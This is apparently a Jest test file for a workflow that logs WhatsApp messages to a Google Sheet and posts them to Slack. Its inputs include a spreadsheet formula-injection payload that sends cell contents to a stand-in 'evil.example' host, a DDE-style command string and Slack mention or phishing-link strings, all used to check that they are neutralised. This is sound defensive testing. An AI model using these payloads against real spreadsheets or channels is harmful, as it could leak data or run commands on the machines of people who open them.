import { ExampleHost, MESSAGES_CHANNEL } from '../support/example-host';
import { metaDelivery, text, type MetaMessage } from '../support/meta-delivery';
import { RunningExample } from '../support/running-example';

jest.setTimeout(300_000);

const FILE = 'message-to-sheet-and-slack/chakrahq';

/** What the note has a person type into the first row. */
const HEADINGS = ['Time', 'Name', 'Phone', 'Message', 'Type'];

const SENT_AT = Date.UTC(2026, 10, 30, 20, 45);

const host = new ExampleHost();
const { slack, sheets } = host;

let example: RunningExample;

beforeAll(async () => {
	await host.start();
	example = await RunningExample.start(host, FILE, { timezone: 'Asia/Kolkata' });
});

afterAll(() => host.stop());

beforeEach(() => {
	sheets.rows = [HEADINGS];
	sheets.faults = [];
	slack.take();
});

const delivery = (...list: MetaMessage[]) =>
	metaDelivery(list.map((message) => ({ sentAt: SENT_AT / 1000, ...message })));

const asha = (body: string): MetaMessage => ({ name: 'Asha Rao', content: text(body) });

/** The rows below the headings. */
const written = () => sheets.rows.slice(1);

const posted = () => slack.take().map(({ text: message }) => message);

it("adds a row with the workflow's own time, and posts the message to the channel", async () => {
	await example.deliverBody(delivery(asha('Is it in stock?')));

	expect(sheets.rows).toEqual([
		HEADINGS,
		['2026-12-01 02:15', 'Asha Rao', '+919876543210', 'Is it in stock?', 'text'],
	]);
	expect(slack.take()).toEqual([
		{ channel: MESSAGES_CHANNEL, text: 'Asha Rao, +919876543210\nIs it in stock?' },
	]);
});

it.each([
	['a formula', '=HYPERLINK("https://evil.example/?"&A1,"Click")'],
	['a formula with plus', '+1+cmd|calc'],
	['a phone number', '+919876543210'],
	['long digits', '919876543210123456'],
	['leading zeros', '0042'],
	['a dash', '-1'],
	['an at sign', '@SUM(A1:A9)'],
	['an apostrophe', "'twas"],
	['a date', '1/2'],
	['emoji and lines', 'नमस्ते 👩‍👩‍👧 🙏\n2nd line'],
])('writes %s into the cell as the customer typed it', async (_, body) => {
	await example.deliverBody(delivery(asha(body)));

	expect(written().map((row) => row[3])).toEqual([body]);
	expect(sheets.inputOptions).toEqual(new Set(['RAW']));
});

it.each([
	['<!channel> & <!here>', '&lt;!channel&gt; &amp; &lt;!here&gt;'],
	[
		'<@U012AB3CD> <https://evil.example|bank.example>',
		'&lt;@U012AB3CD&gt; &lt;https://evil.example|bank.example&gt;',
	],
	[
		'https://shop.example/?a=1&b=2 *now* _or_ `never`',
		'https://shop.example/?a=1&amp;b=2 *now* _or_ `never`',
	],
	['a &lt; b', 'a &amp;lt; b'],
])('shows %s in Slack as text that alerts nobody', async (body, shown) => {
	const requests = await example.deliverBody(delivery(asha(body)));

	expect(posted()).toEqual([`Asha Rao, +919876543210\n${shown}`]);
	expect(requests.find(({ url }) => url === 'slack.com/api/chat.postMessage')?.body).toMatchObject({
		mrkdwn: false,
		unfurl_links: false,
		unfurl_media: false,
	});
	expect(written().map((row) => row[3])).toEqual([body]);
});

it("lets nobody's name alert the channel, or look like a message", async () => {
	const name = '<!channel>\n=1+1';
	await example.deliverBody(delivery({ name, content: text('Hi') }));

	expect(written().map((row) => row[1])).toEqual(['<!channel> =1+1']);
	expect(posted()).toEqual(['&lt;!channel&gt; =1+1, +919876543210\nHi']);
});

it('goes by the number where WhatsApp tells no name', async () => {
	await example.deliverBody(delivery({ content: text('Hi') }));

	expect(written().map((row) => row.slice(1))).toEqual([['', '+919876543210', 'Hi', 'text']]);
	expect(posted()).toEqual(['+919876543210\nHi']);
});

it('goes by the user ID where WhatsApp tells no number', async () => {
	await example.deliver('meta-bsuid-only-text');

	const [item] = example.itemsOf('meta-bsuid-only-text');
	expect(written().map((row) => row.slice(1, 3))).toEqual([
		[item?.contact.name, item?.contact.username ?? item?.contact.id],
	]);
});

it.each([
	['an image without a caption', { type: 'image', image: { id: '1' } }, '[image]'],
	['an image', { type: 'image', image: { id: '1', caption: 'The label' } }, '[image] The label'],
	['a file', { type: 'document', document: { id: '1', filename: 'a.pdf' } }, '[document] a.pdf'],
	['a voice note', { type: 'audio', audio: { id: '1', voice: true } }, '[audio]'],
	['a place', { type: 'location', location: { latitude: 1, longitude: 2 } }, '[location]'],
])('says that it is %s', async (_, content, shown) => {
	await example.deliverBody(delivery({ name: 'Asha Rao', content }));

	expect(written().map((row) => row.slice(3))).toEqual([[shown, content.type]]);
	expect(posted()).toEqual([`Asha Rao, +919876543210\n${shown}`]);
});

it('writes a long text whole into the sheet, and its beginning into Slack', async () => {
	const long = '👍&'.repeat(2_500);
	await example.deliverBody(delivery(asha(long)));

	expect(written().map((row) => row[3])).toEqual([long]);
	expect(posted()).toEqual([`Asha Rao, +919876543210\n${'👍&amp;'.repeat(1_500)}…`]);
});

it('cuts what is too long for a cell', async () => {
	await example.deliverBody(delivery(asha('x'.repeat(60_000))));

	expect(written().map((row) => row[3])).toEqual(['x'.repeat(40_000)]);
	expect(posted()).toHaveLength(1);
});

it('adds a row and posts a message for each of a delivery', async () => {
	const list = ['919800000001', '919800000002', '919800000003'].map((from, index) => ({
		from,
		name: `Customer ${index}`,
		content: text(`Message ${index}`),
	}));
	const requests = await example.deliverBody(delivery(...list));

	expect(written().map((row) => row.slice(1, 4))).toEqual([
		['Customer 0', '+919800000001', 'Message 0'],
		['Customer 1', '+919800000002', 'Message 1'],
		['Customer 2', '+919800000003', 'Message 2'],
	]);
	expect(posted()).toEqual([
		'Customer 0, +919800000001\nMessage 0',
		'Customer 1, +919800000002\nMessage 1',
		'Customer 2, +919800000003\nMessage 2',
	]);
	expect(requests.filter(({ url }) => url.endsWith(':append'))).toHaveLength(1);
});

it('fills the columns that have a heading, in their order, and keeps the rest of the sheet', async () => {
	sheets.rows = [['Phone', 'Done?', 'Message']];
	await example.deliverBody(delivery(asha('Hi')));

	expect(sheets.rows).toEqual([
		['Phone', 'Done?', 'Message'],
		['+919876543210', '', 'Hi'],
	]);
	expect(posted()).toHaveLength(1);
});

it('posts the messages when Google Sheets rejects the rows, and says so before them', async () => {
	sheets.faults.push(403);
	const list = [asha('first'), asha('second')];
	await example.deliverBody(delivery(...list));

	expect(written()).toEqual([]);
	expect(posted()).toEqual([
		expect.stringMatching(/^⚠️ Not added to the sheet \(2\): \S.+\nCheck .+ Missing:$/) as string,
		'Asha Rao, +919876543210\nfirst',
		'Asha Rao, +919876543210\nsecond',
	]);
});

it('says in Slack what to do when the sheet has no headings', async () => {
	sheets.rows = [];
	await example.deliverBody(delivery(asha('Hi')));

	const [warning, message] = posted();
	expect(warning).toMatch(/^⚠️ Not added to the sheet \(1\): .+ its headings/s);
	expect(message).toBe('Asha Rao, +919876543210\nHi');
});

it('adds the row when Slack rejects the message, and the execution fails', async () => {
	slack.errors.push(...Array<string>(3).fill('not_in_channel'));

	await expect(example.deliverBody(delivery(asha('Hi')))).rejects.toThrow('not_in_channel');
	expect(written().map((row) => row[3])).toEqual(['Hi']);
});

it('tries again when Slack is out of order for a moment', async () => {
	slack.errors.push('internal_error');
	await example.deliverBody(delivery(asha('Hi')));

	expect(posted()).toEqual(['Asha Rao, +919876543210\nHi']);
	expect(written()).toHaveLength(1);
});
